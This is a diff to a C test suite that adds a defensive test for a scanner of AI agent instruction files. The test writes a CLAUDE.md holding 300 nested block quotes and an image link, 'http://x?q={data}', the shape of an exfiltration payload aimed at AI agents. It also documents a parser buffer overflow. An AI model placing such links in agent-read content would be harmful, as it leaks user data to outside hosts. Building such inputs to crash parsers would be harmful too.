@@ -630,6 +630,29 @@ START_TEST(comment_openers_scan_in_time)
 }
 END_TEST
 
+static int scan_finds_al304_root(void)
+{
+	return scan_finds("AL304", "CLAUDE.md");
+}
+
+/* 300 block quotes open on one line: tree-sitter-markdown's scanner wrote
+ * 4 bytes for each into tree-sitter's 1 024-byte serialization buffer (an
+ * assertion then killed the sandboxed scanner with SIGABRT). Refused before
+ * parsing, AL304. */
+START_TEST(deep_markdown_containers)
+{
+	char *quotes = repeat("> ", 300), *md = malloc(strlen(quotes) + 64);
+	const char *err;
+
+	sprintf(md, "%s![a](http://x?q={data})\n", quotes);
+	t_write(proj, "CLAUDE.md", md);
+	free(quotes);
+	free(md);
+	err = bounded(scan_finds_al304_root, 30, 1024, NULL);
+	ck_assert_msg(err == NULL, "%s", err);
+}
+END_TEST
+
 /* --- a FIFO where libgit2 reads --------------------------------------------------- */
 
 static void git_repo(void)
@@ -727,6 +750,7 @@ Suite *hostile_suite(void)
 	tcase_set_timeout(tc, 120);
 	tcase_add_test(tc, deep_shell_nesting);
 	tcase_add_test(tc, deep_json_nesting);
+	tcase_add_test(tc, deep_markdown_containers);
 	tcase_add_test(tc, invisible_runs_linear);
 	tcase_add_test(tc, markdown_memory_bounded);
 	tcase_add_test(tc, comment_openers_scan_in_time);
